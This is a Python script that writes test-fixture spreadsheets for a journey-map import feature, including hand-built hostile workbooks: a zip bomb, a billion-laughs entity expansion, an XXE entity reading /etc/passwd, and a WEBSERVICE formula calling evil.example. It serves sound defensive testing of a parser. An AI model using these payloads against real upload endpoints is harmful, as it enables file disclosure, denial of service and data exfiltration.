"""Writes the spreadsheets of the import cases: `python tests/sheets/cases/make_cases.py`.

The files are committed (each is small); this script says how each was made, so a case can be
read and rebuilt. Hostile workbooks are zip archives written by hand, byte for byte as an
attacker would, not by a library that would refuse to write them.
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Touchpoints" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_ROW = (
    '<row r="1">'
    + cell("A1", "Phase")
    + cell("B1", "Touchpoint")
    + cell("C1", "Channel")
    + cell("D1", "Owner")
    + "</row>"
)


def sheet_xml(rows: str, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + HEADER_ROW
        + rows
        + "</sheetData></worksheet>"
    )


def workbook_zip(sheet: str, extra: dict[str, bytes] | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return stream.getvalue()


GOOD_ROW = (
    '<row r="2">' + cell("A2", "Land") + cell("B2", "Kickoff") + cell("C2", "email") + cell("D2", "csm") + "</row>"
)


def hostile() -> dict[str, bytes]:
    laughs = (
        '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{n} "{("&lol%s;" % (n - 1 if n > 1 else "")) * 10}">' for n in range(1, 10))
        + "]>"
    )
    laughs_row = (
        '<row r="2">' + cell("A2", "&lol9;") + cell("B2", "x") + cell("C2", "email") + cell("D2", "csm") + "</row>"
    )
    external = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    external_row = (
        '<row r="2">' + cell("A2", "&xxe;") + cell("B2", "x") + cell("C2", "email") + cell("D2", "csm") + "</row>"
    )
    # Formulas with the values Excel cached when it last computed them; the last has none.
    formulas = (
        '<row r="2">'
        + cell("A2", "Land")
        + '<c r="B2" t="str"><f>CONCAT("Kick","off")</f><v>Kickoff</v></c>'
        + '<c r="C2" t="str"><f>LOWER("EMAIL")</f><v>email</v></c>'
        + cell("D2", "csm")
        + "</row>"
        + '<row r="3">'
        + cell("A3", "Land")
        + '<c r="B3" t="str"><f>WEBSERVICE("http://evil.example/x")</f>'
        "<v>Second</v></c>"
        + cell("C3", "email")
        + cell("D3", "csm")
        + "</row>"
        + '<row r="4">'
        + cell("A4", "Land")
        + cell("B4", "Third")
        + '<c r="C4"><f>1+1</f></c>'
        + cell("D4", "csm")
        + "</row>"
    )
    many_rows = '<row r="2">' + cell("A2", "Land") + '</row><row r="1048576">' + cell("A1048576", "Far") + "</row>"
    return {
        "zip-bomb/journey.xlsx": workbook_zip(sheet_xml(GOOD_ROW), {"xl/media/padding.bin": bytes(64 * 2**20)}),
        "billion-laughs/journey.xlsx": workbook_zip(sheet_xml(laughs_row, laughs)),
        "external-entity/journey.xlsx": workbook_zip(sheet_xml(external_row, external)),
        "formula-cells/journey.xlsx": workbook_zip(sheet_xml(formulas)),
        "a-million-rows/journey.xlsx": workbook_zip(sheet_xml(many_rows)),
        "too-many-entries/journey.xlsx": workbook_zip(
            sheet_xml(GOOD_ROW), {f"xl/media/{n}.bin": b"" for n in range(1000)}
        ),
        "not-a-zip/journey.xlsx": b"Phase,Touchpoint,Channel,Owner\nLand,Kickoff,email,csm\n",
        "zip-but-not-a-workbook/journey.xlsx": _zip({"word/document.xml": b"<document/>"}),
        "workbook-renamed-csv/journey.csv": workbook_zip(sheet_xml(GOOD_ROW)),
        "utf16-csv/journey.csv": "Phase,Touchpoint,Channel,Owner\nLand,Kickoff,email,csm\n".encode("utf-16"),
        "latin1-csv/journey.csv": "Phase,Touchpoint,Channel,Owner\nLand,Caf\xe9 visit,email,csm\n".encode("latin-1"),
        "truncated/journey.xlsx": workbook_zip(sheet_xml(GOOD_ROW))[:300],
        "lying-sizes/journey.xlsx": lying_sizes(),
    }


def lying_sizes() -> bytes:
    """A sheet of 50 MiB of blanks whose headers say 1,000 bytes: read past that, it fails its CRC."""
    data = bytearray(workbook_zip(sheet_xml(GOOD_ROW + " " * 50 * 2**20)))
    real = struct.pack("<I", len(sheet_xml(GOOD_ROW + " " * 50 * 2**20).encode()))
    while (at := data.find(real)) != -1:  # the local header and the central directory
        data[at : at + 4] = struct.pack("<I", 1000)
    return bytes(data)


def _zip(entries: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return stream.getvalue()


def mistakes() -> bytes:
    """A workbook with a dozen mistakes people make, each to be reported at its cell."""
    book = openpyxl.Workbook()
    journey = book.active
    journey.title = "Journey"
    journey.append(["Map id", "Title", "Last reviewed", "Review every (days)"])
    journey.append(["onboarding", "Onboarding", "last week", 90])
    sheet = book.create_sheet("Touchpoints")
    sheet.append(
        [
            "Phase",
            "Touchpoint",
            "Customer view",
            "Chanel",
            "Channel",
            "Owner",
            "Personas",
            "Emotion",
            "Moment that matters",
            "Mode",
            "Visibility",
            "Customer goal",
            "Playbooks",
        ]
    )
    rows = [
        [None, "Orphan", "", "", "email", "csm", "", "", "", "", "", "", ""],
        [
            "Land",
            "Kickoff",
            "A call to agree goals.",
            "x",
            "zoom",
            "csm",
            "champion",
            "happy",
            "yes",
            "human",
            "",
            "Set up.",
            "",
        ],
        ["Land", "Welcome email", "", "", "email", "cms", "champoin", 1, "maybe", "", "", "Set up and live.", ""],
        ["Adopt", "", "Training.", "", "webinar", "csm", "", 5, "", "in person", "", "", ""],
        ["Adopt", "Health check", "", "", "", "csm", "", "", "", "", "private", "", ""],
        ["Land", "Late kickoff follow-up", "", "", "email", "csm", "", "", "", "", "", "", ""],
        [
            "Renew",
            "Renewal call",
            "",
            "",
            "phone",
            "csm",
            "",
            "",
            "yes",
            "",
            "",
            "",
            "Renewal play | https://wiki.example.com/renew | Champion leaves | extra",
        ],
    ]
    for row in rows:
        sheet.append(row)
    owners = book.create_sheet("Owners")
    owners.append(["Id", "Name", "Team"])
    owners.append(["csm", "Customer Success Manager", "Customer Success"])
    personas = book.create_sheet("Personas")
    personas.append(["Id", "Name"])
    personas.append(["champion", "The champion"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def reference_mistakes() -> bytes:
    """A sheet the schema accepts, with mistakes only the whole map shows: ids, references, lint's rules."""
    rows = [
        [
            "Phase",
            "Phase id",
            "Touchpoint",
            "Touchpoint id",
            "Channel",
            "Owner",
            "Personas",
            "Moment that matters",
            "Exit criteria",
        ],
        ["Land", "", "Kickoff", "kickoff", "video-call", "csm", "champion", "", "Plan agreed"],
        ["Land", "", "Kickoff recap", "kickoff", "email", "cms", "champoin", "", ""],
        ["Adopt", "", "Training", "", "webinar", "csm", "", "yes", ""],
        ["Adopt", "", "Training", "", "webinar", "csm", "", "", ""],
    ]
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Touchpoints"
    for row in rows:
        sheet.append(row)
    for title, people in (
        ("Owners", [["Id", "Name"], ["csm", "Customer Success Manager"]]),
        ("Personas", [["Id", "Name"], ["champion", "The champion"], ["admin", "The admin"]]),
    ):
        extra = book.create_sheet(title)
        for row in people:
            extra.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def main() -> None:
    files = {**hostile(), "mistakes/journey.xlsx": mistakes(), "reference-mistakes/journey.xlsx": reference_mistakes()}
    for name, data in files.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
